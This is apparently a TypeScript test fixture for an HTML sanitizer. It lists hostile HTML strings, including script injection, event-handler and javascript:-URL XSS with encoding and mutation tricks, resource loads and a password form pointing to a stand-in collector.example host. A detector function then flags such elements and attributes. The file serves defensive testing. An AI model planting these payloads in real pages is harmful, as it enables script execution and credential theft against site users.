/** HTML that tries to run, to load, to cover, to leave or to trip up code; each with words that a reader is still to see. */
export const hostileHtml: readonly string[] = [
  `<p>seen</p><script>window.__xss=1</script>`,
  `<p>seen<img src=x onerror="window.__xss=1"></p>`,
  `<p>seen<img src="https://collector.example/a.gif" alt="c"></p>`,
  `<p>seen<img src="//collector.example/a.gif" alt="c"></p>`,
  `<p style="background:url(https://collector.example/b)">seen</p>`,
  `<style>@import url(https://collector.example/c.css)</style><p>seen</p>`,
  `<link rel=stylesheet href=https://collector.example/d.css><p>seen</p>`,
  `<meta http-equiv=refresh content="0;url=https://collector.example"><p>seen</p>`,
  `<base href="https://collector.example/"><p>seen</p>`,
  `<p>seen</p><iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<p>seen</p><object data="https://collector.example/e"></object><embed src="https://collector.example/f">`,
  `<p>seen</p><form action="https://collector.example"><input name=password><button>Go</button></form>`,
  `<p>seen</p><svg onload="window.__xss=1"><script>window.__xss=1</script></svg>`,
  `<p>seen</p><svg><style><img src=x onerror=window.__xss=1></style></svg>`,
  `<p>seen</p><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__xss=1&gt;">`,
  `<p>seen</p><noscript><p title="</noscript><img src=x onerror=window.__xss=1>"></noscript>`,
  `<p>seen</p><template><img src=x onerror=window.__xss=1></template>`,
  `<a href="javascript:window.__xss=1">seen</a>`,
  `<a href="JaVa\tscript:window.__xss=1">seen</a>`,
  `<a href="\u0001javascript:window.__xss=1">seen</a>`,
  `<a href="java&#115;cript&colon;window.__xss=1">seen</a>`,
  `<a href="data:text/html,<script>window.__xss=1</script>">seen</a>`,
  `<a href="vbscript:msgbox(1)">seen</a>`,
  `<p id="content" name="body" class="fixed inset-0" onclick="window.__xss=1" data-x="1" aria-hidden="true">seen</p>`,
  `<img name="cookie" id="location"><p>seen</p>`,
  `<div onmouseover=window.__xss=1 style=position:fixed>seen`,
  `<p title='"><img src=x onerror=window.__xss=1>'>seen</p>`,
  `<p>seen</p><!--><img src=x onerror=window.__xss=1>-->`,
  `<p>seen</p><![CDATA[<img src=x onerror=window.__xss=1>]]>`,
  `<p>seen</p><a href="x`,
  `</div></main></body><p>seen</p>`,
];

/** What is wrong with a piece of a page: elements and attributes that no text of a person needs. */
export function dangersIn(root: ParentNode): string[] {
  const dangers: string[] = [];
  for (const element of root.querySelectorAll('*')) {
    const name = element.nodeName.toLowerCase();
    if (/^(?:script|style|link|meta|base|iframe|object|embed|form|input|button|svg|math|template|noscript)$/.test(name))
      dangers.push(`<${name}>`);
    for (const { name: attribute, value } of element.attributes) {
      if (/^on|^(?:id|name|class|style|srcdoc|action)$|^data-/.test(attribute)) dangers.push(`<${name} ${attribute}>`);
      if (attribute === 'src' && !/^(?:\/api\/hr\/|data:image\/)/.test(value)) dangers.push(`<${name} src=${value}>`);
      if (attribute === 'href' && !/^(?:https?:\/\/|mailto:|tel:|\/?[\w/-]+$)/i.test(value))
        dangers.push(`<${name} href=${value}>`);
    }
  }
  return dangers;
}
